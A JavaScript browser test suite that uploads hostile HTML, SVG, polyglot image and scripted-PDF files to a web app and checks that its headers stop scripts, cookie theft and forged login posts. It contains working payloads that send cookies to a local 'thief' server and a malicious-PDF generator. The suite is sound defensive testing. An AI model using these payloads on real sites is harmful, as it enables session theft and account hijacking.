// Hostile files, opened with Chromium under their signed addresses by somebody who is signed in. They share the origin of the
// login pages, and still run nothing there, read no cookie and post to no hosted page.
//
// Each is opened in three ways. As it is served: it is saved, or shown as what it says it is. Taken for a page all the same, as
// by a browser that overrides types and saves nothing: the policy alone holds. And without the policy, where it does all the
// harm it can, so that the other two say something.
import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import { startApp } from "./app.mjs";
import { follow, heading, launch, press, type, visitor } from "./chromium.mjs";
import { BASE_URL, PASSWORD, byKey, owner } from "./service.mjs";

const HOSTED = `${BASE_URL}/auth/login`;
const COOKIE = { name: "readable", value: "by-scripts", url: BASE_URL };

// Whoever waits for stolen things, on another port of the same host: cookies know no ports, so that they come along if they can.
let heard = [];
let onHeard = () => {};
const thief = http.createServer((request, answer) => {
  heard.push({ url: request.url, method: request.method, origin: request.headers.origin, cookie: request.headers.cookie });
  onHeard();
  answer.writeHead(204).end();
});
await new Promise((ready) => thief.listen(0, "127.0.0.1", ready));
const THIEF = `http://localhost:${thief.address().port}`;

const SCRIPT = `document.title = "ran"; fetch("${THIEF}/script?" + document.cookie, { mode: "no-cors", credentials: "include" });
  fetch("${HOSTED}", { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ email: "eve@evil.example" }) });`;
const PARTS = `<h1>Hostile</h1><img src="${THIEF}/image" alt="" /><link rel="stylesheet" href="${THIEF}/style" />
  <iframe src="${THIEF}/frame"></iframe>
  <form method="post" action="${HOSTED}"><input name="email" value="eve@evil.example" /><button>Claim your prize</button></form>`;
const PAGE = `<html><head><title>Harmless</title><script>${SCRIPT}</script></head><body>${PARTS}</body></html>`;
const XHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Harmless</title><script><![CDATA[${SCRIPT}]]></script></head><body>${PARTS}</body></html>`;
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><title>Harmless</title><script><![CDATA[${SCRIPT}]]></script>
  <foreignObject width="900" height="900"><body xmlns="http://www.w3.org/1999/xhtml">${PARTS}</body></foreignObject></svg>`;
const REFRESH = `<html><head><meta http-equiv="refresh" content="0;url=${THIEF}/refresh"></head><body><h1>Hostile</h1></body></html>`;
const PICTURE = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");

/// `saved`: served as an attachment. `page`: the type under which it is a page, unless that is HTML.
const FILES = [
  { name: "page.html", kind: "text/html", saved: true, bytes: PAGE },
  { name: "page.xhtml", kind: "application/xhtml+xml", saved: true, bytes: XHTML, page: "application/xhtml+xml" },
  { name: "data.xml", kind: "text/xml", saved: true, bytes: XHTML, page: "text/xml" },
  { name: "drawing.svg", kind: "image/svg+xml", saved: true, bytes: DRAWING, page: "image/svg+xml" },
  { name: "script.js", kind: "text/javascript", saved: true, bytes: `/*${PAGE}*/` },
  { name: "not-a.png", kind: "image/png", saved: true, bytes: PAGE },
  { name: "not-a.pdf", kind: "application/pdf", saved: true, bytes: `\n${PAGE}` },
  { name: "report.pdf", kind: "application/pdf", bytes: `%PDF-1.7\n1 0 obj<<>>endobj\n${PAGE}` },
  { name: "note.txt", kind: "text/plain; charset=utf-7", bytes: PAGE },
  { name: "photo.png", kind: "image/png", bytes: Buffer.concat([PICTURE, Buffer.from(PAGE)]) },
  { name: "photo.gif", kind: "image/gif", bytes: `GIF89a/*${PAGE}*/` },
];

const app = await startApp({ name: "Difference Engine" });
const browser = await launch();
const { email, tenant } = await owner("victim@customer.example");

/// Uploads a file; its signed address.
async function upload({ name, kind, bytes }) {
  const form = await byKey("POST", "/account/tenant/upload/prepare", { fileName: name, contentType: kind }, tenant);
  const data = new FormData();
  for (const [field, value] of Object.entries(form.fields)) data.append(field, value);
  data.append("file", new Blob([bytes]), name);
  const posted = await fetch(form.url, { method: "POST", body: data });
  assert.equal(posted.status, 204, await posted.text());
  return byKey("POST", "/account/tenant/upload/finish", { key: form.fields.key }, tenant);
}

/// Somebody's browser, signed in.
async function signIn() {
  const page = await visitor(browser);
  await page.goto(app.origin);
  await follow(page, "Sign in");
  await type(page, "Email address", email);
  await press(page, "Continue");
  await type(page, "Password", PASSWORD);
  await press(page, "Sign in");
  await heading(page, `Welcome, ${email}`);
  const context = page.context();
  await context.addCookies([COOKIE]);
  const cookies = await context.cookies(BASE_URL);
  assert.ok(cookies.some(({ name, httpOnly }) => name.includes("session") && httpOnly), "somebody is signed in");
  const storageState = await context.storageState();
  await context.close();
  // An answer that was changed on its way counts as one from the internet, which may not ask this machine; the thief's is everybody's.
  const signedIn = await browser.newContext({ storageState, permissions: ["local-network-access"] });
  signedIn.setDefaultTimeout(20_000);
  return signedIn;
}

/// A new page, which tells of every request it makes.
async function open(context) {
  const page = await context.newPage();
  [page.said, page.asked, heard] = [[], [], []];
  page.on("console", (message) => page.said.push(message.text()));
  page.on("request", (request) => page.asked.push(request));
  return page;
}

/// Waits until the browser has said so.
async function says(page, text) {
  if (page.said.some((said) => said.includes(text))) return;
  await page.waitForEvent("console", (message) => message.text().includes(text)).catch(() => {
    throw new Error(`${page.url()} was not told "${text}" but ${JSON.stringify(page.said)}`);
  });
}

/// Waits until the thief has heard from all of these.
const hears = (paths) =>
  new Promise((resolve, reject) => {
    const late = setTimeout(() => reject(new Error(`the thief heard ${JSON.stringify(heard)} and not all of ${paths}`)), 20_000);
    onHeard = () => {
      if (!paths.every((path) => heard.some(({ url }) => url.startsWith(path)))) return;
      clearTimeout(late);
      resolve();
    };
    onHeard();
  });

/// What left the page.
const posts = (page) => page.asked.filter((request) => request.method() === "POST");

/// Serves the address as something else.
const serve = (page, address, change) =>
  page.route(address, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    change(headers);
    await route.fulfill({ response, headers });
  });

function asPage(headers, file) {
  delete headers["content-disposition"];
  headers["content-type"] = `${file.page ?? "text/html"}; charset=utf-8`;
}

async function asServed(page, file, address) {
  if (file.saved) {
    const [saved] = await Promise.all([page.waitForEvent("download"), page.goto(address).catch(() => {})]);
    assert.equal(saved.suggestedFilename(), file.name);
    assert.deepEqual(fs.readFileSync(await saved.path()), Buffer.from(file.bytes));
  } else {
    await page.goto(address);
    assert.equal(await page.evaluate(() => document.contentType), file.kind.split(";")[0]);
    assert.equal(await page.evaluate(() => document.querySelectorAll("form, h1, script").length), 0, "it is no page");
  }
  harmless(page, file, address);
}

/// It got nothing but itself. What the policy forbids is begun, and fails before it leaves.
function harmless(page, file, address) {
  assert.deepEqual(heard, [], file.name);
  const allowed = page.asked.filter((request) => request.failure()?.errorText !== "csp").map((request) => request.url());
  // The viewer of PDFs is loaded from the browser itself.
  assert.deepEqual(allowed.filter((url) => url !== address && !url.startsWith("chrome")), [], file.name);
  assert.deepEqual(posts(page), [], file.name);
}

async function underPolicy(page, file, address) {
  await serve(page, address, (headers) => asPage(headers, file));
  await page.goto(address);
  await page.getByRole("heading", { name: "Hostile" }).waitFor();
  await says(page, "Blocked script execution");
  await press(page, "Claim your prize");
  await says(page, "Blocked form submission");
  assert.notEqual(await page.title(), "ran");
  harmless(page, file, address);
}

async function unprotected(page, file, address) {
  await serve(page, address, (headers) => {
    asPage(headers, file);
    delete headers["content-security-policy"];
    delete headers["x-content-type-options"];
  });
  await page.goto(address);
  await hears([`/script?${COOKIE.name}=${COOKIE.value}`, "/image", "/style", "/frame"]);
  assert.equal(await page.title(), "ran");
  assert.match(heard.find(({ url }) => url.startsWith("/script")).cookie, /session/, "what no script can read comes along");
  const answered = page.waitForResponse((answer) => answer.request().isNavigationRequest() && answer.request().method() === "POST");
  await press(page, "Claim your prize");
  assert.equal((await answered).url(), HOSTED);
  await page.waitForURL(HOSTED);
}

/// A PDF with a script that runs when it is opened, and a button as large as the page that sends what stands in its form.
function scriptedPdf(script, target) {
  const text = (words) => `(${words.replace(/[()\\]/g, "\\$&")})`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AcroForm << /Fields [5 0 R 6 0 R] >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 600] /Annots [5 0 R 6 0 R] >>",
    `<< /S /JavaScript /JS ${text(script)} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 600 600] /P 3 0 R /F 4
      /A << /S /SubmitForm /F << /FS /URL /F ${text(target)} >> /Flags 4 >> >>`,
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (email) /V (eve@evil.example) /Rect [0 0 1 1] /P 3 0 R /F 4 >>",
  ];
  let [pdf, places] = ["%PDF-1.7\n", ""];
  for (const [n, object] of objects.entries()) {
    places += `${String(pdf.length).padStart(10, "0")} 00000 n \n`;
    pdf += `${n + 1} 0 obj\n${object}\nendobj\n`;
  }
  const count = objects.length + 1;
  return `${pdf}xref\n0 ${count}\n0000000000 65535 f \n${places}trailer << /Size ${count} /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF\n`;
}

/// The browser's viewer has an interpreter of its own for scripts of PDFs. It knows no page, no cookie and no network, and
/// what a press of a button sends comes from nowhere and from nobody, as from any stranger's site.
async function viewing(context) {
  const script = `var told = [typeof document, typeof fetch, typeof XMLHttpRequest];
    try { this.submitForm("${HOSTED}"); told.push("sent"); } catch (error) { told.push(error); }
    app.alert(told.join(", "));`;
  const address = await upload({ name: "form.pdf", kind: "application/pdf", bytes: scriptedPdf(script, `${THIEF}/pdf`) });
  const page = await open(context);
  const asked = page.waitForEvent("dialog");
  await page.goto(address);
  const dialog = await asked;
  assert.equal(dialog.message(), "undefined, undefined, undefined, Document.submitForm: User gesture required.");
  await dialog.dismiss();
  assert.deepEqual([posts(page), heard], [[], []]);
  // Its script runs a moment before its button can be pressed.
  const pressing = setInterval(() => page.mouse.click(640, 400).catch(() => {}), 250);
  await hears(["/pdf"]).finally(() => clearInterval(pressing));
  for (const sent of heard) assert.deepEqual(sent, { url: "/pdf", method: "POST", origin: "null", cookie: undefined });
  await page.close();
}

async function refreshing(context) {
  const file = { name: "refresh.html", kind: "text/html", bytes: REFRESH };
  const address = await upload(file);
  let page = await open(context);
  await serve(page, address, (headers) => asPage(headers, file));
  await page.goto(address);
  await says(page, "Refused to execute the redirect");
  harmless(page, file, address);
  await page.close();
  page = await open(context);
  await serve(page, address, (headers) => {
    asPage(headers, file);
    delete headers["content-security-policy"];
  });
  await page.goto(address);
  await hears(["/refresh"]);
  await page.close();
}

try {
  const context = await signIn();
  for (const file of FILES) {
    const address = await upload(file);
    for (const way of [asServed, underPolicy, unprotected]) {
      const page = await open(context);
      await way(page, file, address).catch((error) => {
        console.error(`${file.name}, ${way.name}: the browser said ${JSON.stringify(page.said)}`);
        throw error;
      });
      await page.close();
    }
  }
  await viewing(context);
  await refreshing(context);
} finally {
  await browser.close();
  app.close();
  thief.close();
}
